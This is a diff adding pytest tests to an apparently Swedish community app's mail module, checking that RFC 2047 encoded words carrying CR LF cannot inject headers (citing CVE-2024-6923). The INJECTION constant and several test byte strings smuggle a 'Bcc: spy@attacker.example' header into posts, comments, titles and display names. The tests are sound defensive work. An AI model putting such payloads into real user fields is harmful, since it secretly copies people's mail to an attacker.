@@ -148,3 +148,128 @@ def test_a_report_mails_the_moderators_at_once_and_the_reporter_hears_the_decisi
     assert mail.send_due() == 1
     subjects = [message["Subject"] for message in mails(smtp)]
     assert len(subjects) == 3 and "Maria K har avgjort din anmälan av ”Köp klockor”" in subjects
+
+
+# An RFC 2047 encoded word is printable ASCII, so it passes every line-break filter; the email package
+# decodes it when the header is set and, before CVE-2024-6923's fix, writes the CR LF it holds.
+INJECTION = "=?utf-8?q?x=0D=0ABcc:_spy@attacker.example?="
+OURS = {"from", "to", "subject", "date", "message-id", "list-unsubscribe", "list-unsubscribe-post", "mime-version",
+        "content-type"}
+
+
+def wire_headers(smtp, name: str) -> tuple[bytes, set]:
+    """A delivered mail's header section as it came over SMTP, and the header names in it (unfolded)."""
+    with open(f"{smtp.folder}/{name}", "rb") as source:
+        head = source.read().replace(b"\r\n", b"\n").split(b"\n\n", 1)[0]
+    names = {line.split(b":", 1)[0].decode().lower() for line in head.split(b"\n") if line[:1] not in (b" ", b"\t")}
+    return head, names
+
+
+def assert_one_clean_mail(smtp, recipient: str) -> None:
+    [name] = smtp.names()
+    head, names = wire_headers(smtp, name)
+    assert names == OURS, head
+    assert b"attacker" not in head.lower().replace(b"= ?", b"") or b"\nbcc" not in head.lower(), head
+    assert not [line for line in head.split(b"\n") if line.lower().startswith(b"bcc")], head
+    assert smtp.recipients[name] == [recipient]
+
+
+def test_an_encoded_word_in_a_post_adds_no_recipient(sara, people, smtp):
+    from chalicelib import mail
+
+    people("johan.lind", "Johan Lind")
+    assert sara.send("POST", "/api/posts", json.dumps({"text": f"{INJECTION} hej @johan.lind"})).status_code == 201
+    assert mail.send_due() == 1
+    assert_one_clean_mail(smtp, "johan.lind@x.example")
+
+
+def test_an_encoded_word_in_a_comment_adds_no_recipient(sara, karin, smtp):
+    from chalicelib import mail
+
+    assert mention(karin, f"{INJECTION} @sara.nilsson {INJECTION}").status_code == 201
+    assert mail.send_due() == 1
+    assert_one_clean_mail(smtp, "sara.nilsson@x.example")
+
+
+def test_an_encoded_word_in_an_article_title_adds_no_recipient(sara, karin, smtp):
+    from chalicelib import mail, targets
+
+    targets.register_articles({"articles": [{"id": "article:rubrik", "title": f"{INJECTION} Rubrik", "url": "/news/rubrik/",
+                                             "date": "2026-11-20T08:00:00+01:00", "author": "Karin Ek", "summary": "s",
+                                             "comments": True}]})
+    text = json.dumps({"text": "Titta @sara.nilsson"})
+    assert karin.send("POST", "/api/threads/article:rubrik/comments", text).status_code == 201
+    assert mail.send_due() == 1
+    assert_one_clean_mail(smtp, "sara.nilsson@x.example")
+    message = mails(smtp)[0]
+    assert message["Subject"].endswith("Rubrik”") and "=?" not in message["Subject"]
+
+
+def test_an_encoded_word_in_a_display_name_adds_no_recipient(people, articles, smtp):
+    from chalicelib import mail
+
+    people("sara.nilsson", f"Sara {INJECTION}")  # the recipient's name, in To:
+    karin = people("karin.ek", f"{INJECTION} Karin")  # the actor's name, in Subject:
+    assert mention(karin).status_code == 201
+    assert mail.send_due() == 1
+    assert_one_clean_mail(smtp, "sara.nilsson@x.example")
+
+
+def test_a_refused_mail_is_held_and_the_run_goes_on(sara, karin, people, smtp, monkeypatch):
+    from chalicelib import mail, store
+
+    people("lars.holm", "Lars Holm")
+    mention(karin, "Hej @sara.nilsson och @lars.holm")
+    real = mail.check_headers
+
+    def refuse_sara(data, expected):
+        if b"sara.nilsson@" in data.split(b"\r\n\r\n", 1)[0]:
+            raise mail.HeaderRefused("test")
+        real(data, expected)
+
+    monkeypatch.setattr(mail, "check_headers", refuse_sara)
+    assert mail.send_due() == 1  # Lars's went; Sara's was refused, and the run did not stop
+    [name] = smtp.names()
+    assert smtp.recipients[name] == ["lars.holm@x.example"]
+    held, _ = store.query("MAILHELD", "", 10)
+    assert [item["personId"] for item in held] == ["sara.nilsson"]
+    assert store.query("MAILQ", "", 10)[0] == []
+
+
+def test_a_failed_delivery_never_stops_the_digest(sara, karin, people, smtp, monkeypatch):
+    from chalicelib import mail
+
+    lars = people("lars.holm", "Lars Holm")
+    for person in (sara, lars):
+        person.send("PATCH", "/api/me", json.dumps({"mail": {"reaction": "daily"}}))
+    for author in (sara, lars):
+        post = body(author.send("POST", "/api/posts", json.dumps({"text": "Fika?"})))
+        karin.send("PUT", f"/api/reactions/post:{post['id']}/like")
+    import smtplib
+
+    real = smtplib.SMTP.sendmail
+
+    def bounce_lars(self, sender, recipients, data, *args, **kwargs):
+        if recipients == ["lars.holm@x.example"]:
+            raise smtplib.SMTPRecipientsRefused({"lars.holm@x.example": (550, b"no such user")})
+        return real(self, sender, recipients, data, *args, **kwargs)
+
+    monkeypatch.setattr(smtplib.SMTP, "sendmail", bounce_lars)
+    result = mail.digest("daily")
+    assert (result["sent"], result["failed"]) == (1, 1)
+    assert [smtp.recipients[name] for name in smtp.names()] == [["sara.nilsson@x.example"]]
+
+
+def test_check_headers_reads_the_wire():
+    from chalicelib import mail
+
+    good = b"From: a@x\r\nTo: b@x\r\n folded\r\n\r\nbody"
+    mail.check_headers(good, {"From": 1, "To": 1})
+    for bad in (b"From: a@x\r\nTo: b@x\r\nBcc: c@x\r\n\r\nbody", b"From: a@x\nBcc: c@x\r\nTo: b@x\r\n\r\nbody",
+                b"From: a@x\r\nTo: b@x\rBcc: c@x\r\n\r\nbody", b"From: a@x\r\nTo: b@x\r\nnot a header\r\n\r\nx"):
+        with pytest.raises(mail.HeaderRefused):
+            mail.check_headers(bad, {"From": 1, "To": 1})
+    assert mail.header_text(INJECTION + " hej") == "x Bcc: spy@attacker.example hej"
+    nested = mail.header_text("=?utf-8?q?=3D=3Futf-8=3Fq=3Fy=0D=0ABcc:_z@x=3F=3D?=")
+    assert "=?" not in nested and "\n" not in nested and "\r" not in nested
+    assert "=?" not in mail.header_text("=?bogus-charset?q?x=0D=0A?= =?x?")
